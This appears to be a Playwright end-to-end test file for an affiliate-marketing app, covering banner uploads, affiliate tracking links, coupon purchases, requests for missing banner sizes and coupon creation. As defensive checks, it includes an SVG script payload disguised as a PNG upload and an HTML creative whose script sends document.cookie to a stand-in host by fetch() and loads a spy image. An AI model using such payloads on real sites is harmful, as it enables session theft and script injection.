import { expect, test, type Browser, type Page } from '@playwright/test';
import sharp from 'sharp';
import {
  accessible,
  moveClock,
  openDesk,
  pick,
  picture,
  settled,
  signInPortal,
  type Running,
} from './helpers';

let running: Running;
let desk: Page;
test.beforeAll(async ({ browser }) => {
  ({ running, page: desk } = await openDesk(browser));
});
test.afterAll(async () => {
  await running.stop();
});

/** A drawn banner, as a file that is chosen. */
const drawn = async (name: string, width: number, height: number) => ({
  name,
  mimeType: 'image/png',
  buffer: await sharp({ create: { width, height, channels: 3, background: '#b5651d' } })
    .png()
    .toBuffer(),
});

/** The demo's shop, at which buyers stand: its host is made up, so the stand-in plays it. */
const inShop = (address: string) =>
  address.replace('https://shop.quernstone.example', running.standins).replace(/\?$/, '');

const placesOf = (page: Page) => page.getByRole('navigation', { name: 'Places' });

/** The clipboard of a page. */
const copied = (page: Page) => page.evaluate(() => navigator.clipboard.readText());

/** An affiliate in its portal, on a screen of a size. */
async function asAffiliate(browser: Browser, viewport: { width: number; height: number }): Promise<Page> {
  const context = await browser.newContext({ viewport });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const page = await context.newPage();
  await signInPortal(page, running.address);
  await expect(placesOf(page).getByRole('link', { name: /^Creatives/ })).toBeVisible();
  return page;
}

test('five banners are chosen at once, one is refused with its reason, the rest wait for tomorrow and then are on', async () => {
  await desk.goto(`${running.address}/creatives`);
  await settled(desk);
  await accessible(desk, { colours: true });
  await picture(desk, 'creatives');
  await desk.keyboard.press('n');
  const choosing = desk.waitForEvent('filechooser');
  await desk.getByRole('menuitem', { name: 'Banners from files…' }).click();
  const chooser = await choosing;
  await chooser.setFiles([
    await drawn('wheel-square.png', 300, 250),
    await drawn('wheel-wide.png', 728, 90),
    await drawn('wheel-phone.png', 320, 50),
    await drawn('wheel-tall.png', 120, 600),
    { name: 'wheel-word.png', mimeType: 'image/png', buffer: Buffer.from('<svg onload="alert(1)"/>') },
  ]);
  const dialog = desk.getByRole('dialog');
  await expect(dialog.getByRole('heading', { name: '4 files of 5 taken' })).toBeVisible();
  await expect(dialog.getByRole('alert')).toContainText(/PNG/);
  await accessible(desk, { colours: true });
  await pick(dialog.getByLabel('For'), 'Table-top wheel kit');
  await dialog.getByLabel('Begins', { exact: true }).fill('2027-03-13');
  await dialog.getByLabel('Subject, if you wish').fill('Mud season');
  await dialog.getByRole('button', { name: 'Make 4 creatives' }).click();
  await expect(desk.getByText('4 creatives made')).toBeVisible();
  await desk.goto(`${running.address}/creatives?q=Mud+season`);
  const pieces = desk.getByRole('region', { name: 'Banners' }).getByRole('listitem');
  await expect(pieces).toHaveCount(4);
  await expect(pieces.getByText('from 13 Mar 2027, 00:00')).toHaveCount(4);
  await moveClock(desk, 'day');
  await expect(pieces.getByText(/^on$/)).toHaveCount(4);
});

test('an affiliate on a phone takes a banner; what a buyer buys through it with a coupon names link, piece and code', async ({
  browser,
}) => {
  const phone = await asAffiliate(browser, { width: 360, height: 740 });
  await placesOf(phone)
    .getByRole('link', { name: /^Creatives/ })
    .click();
  await settled(phone);
  await accessible(phone, { colours: true });
  expect(await phone.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await phone.goto(`${running.address}/portal/creatives?size=300x250&subject=Mud+season`);
  await phone.getByRole('button', { name: 'wheel square, look at it' }).click();
  const sheet = phone.getByRole('dialog', { name: 'wheel square' });
  await expect(sheet.getByText('/go/').first()).toBeVisible();
  await accessible(phone, { colours: true });
  await sheet.getByText('Sub-ids, to tell places of your own apart').click();
  await sheet.getByLabel('s1').fill('letter 41');
  await sheet.getByRole('listitem').filter({ hasText: /^Link/ }).getByRole('button').click();
  const link = await copied(phone);
  expect(link).toContain('/go/');
  const buyer = await (await browser.newContext()).newPage();
  const led = await buyer.request.get(link, { maxRedirects: 0 });
  expect(led.status()).toBe(302);
  await buyer.goto(inShop(led.headers().location!));
  await buyer.getByRole('button', { name: 'Buy' }).click();
  await buyer.getByLabel('Coupon').fill('WHEEL10');
  await buyer.getByRole('button', { name: 'Pay' }).click();
  // two more things are offered on the way
  await buyer.getByRole('button', { name: 'No, thank you' }).click();
  await buyer.getByRole('button', { name: 'No, thank you' }).click();
  await expect(buyer.getByText('"outcome":"recorded"')).toBeVisible();
  const reference = /Q-\d+/.exec(await buyer.content())![0];
  await desk.goto(`${running.address}/sales?q=${reference}`);
  await desk.getByRole('row', { name: new RegExp(reference) }).click();
  await expect(desk.getByText(/s1 letter 41/)).toBeVisible();
  await expect(desk.getByRole('link', { name: 'wheel square' })).toBeVisible();
  await expect(desk.getByRole('link', { name: 'WHEEL10' })).toBeVisible();
  await phone.context().close();
});

test('a size that is missing is asked for, made for it and found by who asked', async ({ browser }) => {
  const mara = await asAffiliate(browser, { width: 1280, height: 800 });
  await placesOf(mara)
    .getByRole('link', { name: /^Creatives/ })
    .click();
  await settled(mara);
  await mara.getByRole('button', { name: 'Ask for what is missing' }).click();
  const asking = mara.getByRole('dialog');
  await pick(asking.getByLabel('For'), 'Studio planner');
  await asking.getByLabel('Size').fill('160x600');
  await asking.getByLabel(/What you need/).fill('A tall one beside my notebook, please.');
  await asking.getByRole('button', { name: 'Ask', exact: true }).click();
  await expect(mara.getByText('Asked: you are told when it is there')).toBeVisible();
  await desk.goto(`${running.address}/creatives/coverage`);
  await settled(desk);
  await accessible(desk, { colours: true });
  const box = desk.getByRole('link', { name: /^160×600 for Studio planner/ });
  await expect(box).toHaveAccessibleName(/missing/);
  await desk.goto(`${running.address}/creatives/requests`);
  await accessible(desk, { colours: true });
  const asked = desk.getByRole('listitem').filter({ hasText: 'beside my notebook' });
  await asked.getByRole('link', { name: 'make it' }).click();
  await desk.getByLabel('Name', { exact: true }).fill('Tall, plain');
  await desk
    .locator('input[type=file]')
    .first()
    .setInputFiles(await drawn('tall.png', 160, 600));
  await desk.getByLabel('Alternative text').fill('Studio planner');
  await desk.getByRole('button', { name: 'Put it into the book' }).click();
  const answer = desk.getByRole('dialog', { name: 'Answer Loam Letters' });
  await expect(answer).toContainText('Tall, plain');
  await answer.getByLabel('Words, if you wish').fill('Here it is.');
  await answer.getByRole('button', { name: 'Answer' }).click();
  await expect(desk.getByText('Loam Letters is told')).toBeVisible();
  await desk.goto(`${running.address}/creatives/coverage`);
  await expect(box).toHaveAccessibleName(/: 1$/);
  await mara.goto(`${running.address}/portal/creatives?q=Tall`);
  await expect(mara.getByRole('button', { name: 'Tall, plain, look at it' })).toBeVisible();
  await mara.context().close();
});

test('a piece of HTML neither runs outside its frame nor reaches the page, the session or another address', async () => {
  await desk.goto(`${running.address}/creatives/new/html`);
  // a host that would answer: what is asked of it must not leave the page
  const elsewhere = running.standins;
  const reached: string[] = [];
  desk.on('response', (answer) => reached.push(answer.url()));
  await desk.getByLabel('Name', { exact: true }).fill('A piece that pries');
  await desk
    .getByLabel('Code', { exact: true })
    .fill(
      `<p id="here">Clay</p><script>document.title="ran";parent.document.title="reached";fetch("${elsewhere}/?c="+document.cookie)</script><img src="${elsewhere}/spy.png" onerror="parent.document.title=1"><a href="{link}">wheel</a>`,
    );
  const frame = desk.locator('iframe').first();
  await expect(frame).toBeVisible();
  await expect(frame).toHaveAttribute('sandbox', /^(?!.*allow-same-origin)/);
  await expect(frame).not.toHaveAttribute('sandbox', /allow-(top-navigation|popups|forms|modals)/);
  await desk.waitForLoadState('networkidle');
  expect(await desk.title()).not.toMatch(/reached|ran|^1$/);
  expect(reached.length).toBeGreaterThan(0);
  expect(reached.filter((url) => url.startsWith(elsewhere))).toEqual([]);
});

test('a code that is taken is refused at its field; another is made, set up, and handed to affiliates', async ({
  browser,
}) => {
  await desk.goto(`${running.address}/coupons`);
  await settled(desk);
  await accessible(desk, { colours: true });
  await desk.keyboard.press('n');
  const form = desk.getByRole('dialog', { name: 'New coupon' });
  await form.getByLabel('Code', { exact: true }).fill('WHEEL10');
  await form.getByLabel('Percent', { exact: true }).fill('15');
  await accessible(desk, { colours: true });
  await form.getByRole('button', { name: 'Make the coupon' }).click();
  await expect(form.getByRole('alert')).toContainText('WHEEL10');
  await form.getByLabel('Code', { exact: true }).fill('mud15');
  await form.getByRole('button', { name: 'Make the coupon' }).click();
  await expect(desk.getByText('MUD15 is there')).toBeVisible();
  await desk.getByRole('row', { name: /MUD15/ }).click();
  await desk.keyboard.press('s');
  await expect(desk.getByText(/^MUD15: /)).toBeVisible();
  const mara = await asAffiliate(browser, { width: 360, height: 740 });
  await placesOf(mara)
    .getByRole('link', { name: /^Creatives/ })
    .click();
  await expect(mara.getByRole('region', { name: 'Coupons' })).toContainText('MUD15');
  await mara.context().close();
});

test('the portal’s figures, messages and feeds can be used by everybody', async ({ browser }) => {
  const phone = await asAffiliate(browser, { width: 390, height: 800 });
  for (const place of ['Figures', 'Messages', 'Details']) {
    await phone.getByRole('link', { name: new RegExp(`^${place}`) }).click();
    await settled(phone);
    await accessible(phone, { colours: true });
    expect(await phone.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  }
});
